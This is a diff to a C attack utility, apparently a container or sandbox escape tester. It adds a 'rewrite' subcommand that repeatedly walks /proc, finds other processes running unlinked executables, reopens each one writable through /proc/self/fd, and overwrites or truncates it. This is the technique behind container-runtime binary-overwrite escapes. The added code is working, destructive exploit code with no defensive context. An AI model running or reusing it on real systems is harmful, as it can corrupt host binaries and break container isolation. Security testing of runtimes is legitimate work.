@@ -115,6 +115,35 @@ static int hunt(const char *seconds)
     return 0;
 }
 
+/* Writes to the program of every other process that can be opened, again and again. */
+static int rewrite(const char *seconds)
+{
+    char path[300];
+    unsigned long opened = 0, written = 0;
+    for (time_t end = time(NULL) + atoi(seconds); time(NULL) < end;) {
+        DIR *proc = opendir("/proc");
+        for (struct dirent *entry; (entry = readdir(proc)) != NULL;) {
+            snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
+            int readable = entry->d_name[0] > '0' && entry->d_name[0] <= '9' ? open(path, O_RDONLY | O_CLOEXEC) : -1;
+            struct stat status;
+            if (readable < 0 || fstat(readable, &status) < 0 || status.st_nlink != 0) {
+                close(readable); /* a program with a name is an app's, of the image */
+                continue;
+            }
+            opened++;
+            snprintf(path, sizeof path, "/proc/self/fd/%d", readable);
+            int fd = open(path, O_RDWR | O_CLOEXEC);
+            if (fd >= 0 && (pwrite(fd, "X", 1, 0) == 1 || ftruncate(fd, 0) == 0))
+                written++;
+            close(fd);
+            close(readable);
+        }
+        closedir(proc);
+    }
+    printf("opened %lu written %lu\n", opened, written);
+    return 0;
+}
+
 /* PATH is a directory and a link to TARGET in turn, for SECONDS. */
 static int swap(const char *path, const char *target, const char *seconds)
 {
@@ -169,6 +198,8 @@ int main(int argc, char **argv)
         return printf("uid %u %u\n", getuid(), geteuid()), 0;
     if (strcmp(attack, "hunt") == 0)
         return hunt(arg[0]);
+    if (strcmp(attack, "rewrite") == 0)
+        return rewrite(arg[0]);
     if (strcmp(attack, "swap") == 0)
         return answer(swap(arg[0], arg[1], arg[2]));
     fprintf(stderr, "no attack %s\n", attack);
